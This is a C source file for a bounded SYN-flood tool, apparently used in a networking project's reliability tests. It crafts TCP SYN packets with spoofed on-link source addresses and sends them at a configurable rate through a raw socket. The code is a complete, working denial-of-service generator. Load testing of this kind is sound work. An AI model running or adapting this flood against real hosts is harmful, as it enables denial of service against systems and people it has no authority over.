/* SPDX-License-Identifier: MIT */
/*
 * rel_synflood - a bounded SYN flood for the reliability tests
 * (tests/integration/rel_synflood.sh, bench/reliability.sh): TCP SYNs from
 * spoofed source addresses, sent through a raw IPv4 socket (IP_HDRINCL) of
 * the Linux stack in the client namespace, so they leave like any other
 * packet of that namespace.
 *
 *   rel_synflood [--rate PPS] [--seconds S] [--src-base IP --src-count N]
 *                [--batch B] DST_IP DST_PORT
 *
 * Sources are drawn at random from N addresses starting at --src-base (on
 * the link, so the target answers them at layer 2; nobody owns them, so the
 * SYN-ACKs are never answered: every SYN holds a SYN-queue entry, RFC 4987
 * §2), with random source ports, sequence numbers and IP ids; the SYN
 * carries an MSS option like a real client's. --rate 0 sends as fast as the
 * socket takes them. Prints
 *   synflood sent=N failed=F seconds=S rate=R
 * Exit status: 0 when it ran, 1 on a set-up failure (needs CAP_NET_RAW), 2
 * on bad arguments. Bounded: it stops after --seconds.
 *
 * Call chain: main -> socket(AF_INET, SOCK_RAW, IPPROTO_RAW) -> loop
 * { build B SYNs (wire/ipv4.h, wire/tcp.h offsets; csum.h) -> sendmmsg;
 * pace to --rate }.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "core/opts.h"

#define PROG   "rel_synflood"
#define MAXB   256
#define SYNLEN (20 + 24) /* IPv4 header + TCP header with an MSS option */

static uint64_t now_ns(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static uint64_t xs(uint64_t *s)
{
    uint64_t x = *s;
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    return *s = x;
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t acc)
{
    for (size_t i = 0; i + 1 < n; i += 2) acc += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1) acc += (uint32_t)p[n - 1] << 8;
    return acc;
}

static uint16_t fold(uint32_t acc)
{
    while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
    return (uint16_t)~acc;
}

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
    put16(p, (uint16_t)(v >> 16));
    put16(p + 2, (uint16_t)v);
}

/* One SYN: IPv4 (RFC 791) + TCP (RFC 9293 §3.1) with MSS 1460 (RFC 9293 §3.7.1). */
static void build_syn(uint8_t *b, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
                      uint32_t seq, uint16_t id)
{
    memset(b, 0, SYNLEN);
    b[0] = 0x45;
    put16(b + 2, SYNLEN);
    put16(b + 4, id);
    b[6] = 0x40; /* DF */
    b[8] = 64;
    b[9] = IPPROTO_TCP;
    put32(b + 12, src);
    put32(b + 16, dst);
    put16(b + 10, fold(sum16(b, 20, 0)));
    uint8_t *t = b + 20;
    put16(t, sport);
    put16(t + 2, dport);
    put32(t + 4, seq);
    t[12] = (24 / 4) << 4;
    t[13] = 0x02; /* SYN */
    put16(t + 14, 64240);
    t[20] = 2; /* MSS */
    t[21] = 4;
    put16(t + 22, 1460);
    uint8_t ph[12];
    put32(ph, src);
    put32(ph + 4, dst);
    ph[8] = 0;
    ph[9] = IPPROTO_TCP;
    put16(ph + 10, 24);
    put16(t + 16, fold(sum16(t, 24, sum16(ph, 12, 0))));
}

int main(int argc, char **argv)
{
    uint32_t rate = 10000, batch = 32, base = 0, count = 100;
    double seconds = 5;
    uint64_t seed = 0x2545f4914f6cdd1dull;
    const struct axl_opt opts[] = {
        {"rate", 0, AXL_OPT_U32, "PPS", "SYNs per second, 0 = as fast as possible (default 10000)",
         &rate, 0, 100000000},
        {"seconds", 0, AXL_OPT_DOUBLE, "S", "stop after S seconds (default 5)", &seconds, 0.1, 600},
        {"src-base", 0, AXL_OPT_IPV4, "IP", "first spoofed source address (required)", &base},
        {"src-count", 0, AXL_OPT_U32, "N", "spoofed source addresses (default 100)", &count, 1,
         65536},
        {"batch", 0, AXL_OPT_U32, "B", "SYNs per sendmmsg (default 32)", &batch, 1, MAXB},
        {"seed", 0, AXL_OPT_U64, "N", "random seed", &seed},
        {0},
    };
    int first = axl_opts_parse(argc, argv, PROG, "[options] DST_IP DST_PORT",
                               "A bounded SYN flood from spoofed on-link sources (tests).", opts);
    if (first < 0) return 2;
    uint32_t dst;
    uint64_t port;
    if (argc - first != 2 || axl_parse_ipv4(argv[first], &dst) < 0 ||
        axl_parse_u64(argv[first + 1], &port) < 0 || port < 1 || port > 65535) {
        fprintf(stderr, "%s: expected DST_IP DST_PORT (1..65535) (--help)\n", PROG);
        return 2;
    }
    if (!base) {
        fprintf(stderr, "%s: --src-base IP is required (on-link addresses nobody owns)\n", PROG);
        return 2;
    }
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (fd < 0) {
        fprintf(stderr, "%s: raw socket: %s (needs CAP_NET_RAW)\n", PROG, strerror(errno));
        return 1;
    }
    static uint8_t pkt[MAXB][SYNLEN];
    struct iovec iov[MAXB];
    struct mmsghdr mm[MAXB];
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(dst)};
    memset(mm, 0, sizeof(mm));
    for (uint32_t i = 0; i < MAXB; i++) {
        iov[i] = (struct iovec){pkt[i], SYNLEN};
        mm[i].msg_hdr.msg_iov = &iov[i];
        mm[i].msg_hdr.msg_iovlen = 1;
        mm[i].msg_hdr.msg_name = &sa;
        mm[i].msg_hdr.msg_namelen = sizeof(sa);
    }
    uint64_t rnd = seed | 1, sent = 0, failed = 0;
    uint64_t t0 = now_ns(), end = t0 + (uint64_t)(seconds * 1e9);
    for (;;) {
        uint64_t t = now_ns();
        if (t >= end) break;
        if (rate) { /* pace: never ahead of rate * elapsed */
            uint64_t allowed = (uint64_t)((double)(t - t0) * rate / 1e9) + batch;
            if (sent + failed + batch > allowed) {
                struct timespec ts = {0, 200000};
                nanosleep(&ts, NULL);
                continue;
            }
        }
        for (uint32_t i = 0; i < batch; i++) {
            uint64_t r = xs(&rnd);
            build_syn(pkt[i], base + (uint32_t)(r % count), dst, (uint16_t)(1024 + (r >> 16) % 64000),
                      (uint16_t)port, (uint32_t)(r >> 32), (uint16_t)(r >> 48));
        }
        int n = sendmmsg(fd, mm, batch, 0);
        if (n < 0) {
            failed += batch; /* ENOBUFS: the qdisc is full; count and go on */
            continue;
        }
        sent += (uint64_t)n;
        failed += batch - (uint32_t)n;
    }
    double secs = (double)(now_ns() - t0) / 1e9;
    printf("synflood sent=%llu failed=%llu seconds=%.1f rate=%.0f\n", (unsigned long long)sent,
           (unsigned long long)failed, secs, (double)sent / secs);
    close(fd);
    return 0;
}
